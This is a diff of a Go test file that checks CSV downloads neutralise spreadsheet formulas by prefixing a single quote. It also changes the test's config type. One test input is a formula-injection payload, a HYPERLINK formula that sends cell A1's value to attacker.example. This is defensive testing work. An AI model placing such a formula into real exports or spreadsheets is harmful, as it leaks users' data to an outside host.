@@ -7,8 +7,6 @@ import (
 	"slices"
 	"strings"
 	"testing"
-
-	"github.com/promocodes/promocodes/api"
 )
 
 // CSV downloads never hand a spreadsheet a formula: a cell starting with
@@ -16,7 +14,7 @@ import (
 // leading single quote, in the codes export and the redemptions CSV alike,
 // and removing one leading quote gives the value back.
 func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
-	e := newEnv(t, api.Config{Open: true}, nil)
+	e := newEnv(t, envConfig{Open: true}, nil)
 	hyperlink := `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`
 	for _, tc := range []struct{ code, cell string }{
 		{"=1+2", "'=1+2"}, {"+1+2", "'+1+2"}, {"@SUM(1)", "'@SUM(1)"}, {"'QUOTED", "''QUOTED"}, {"PLAIN=1", "PLAIN=1"},
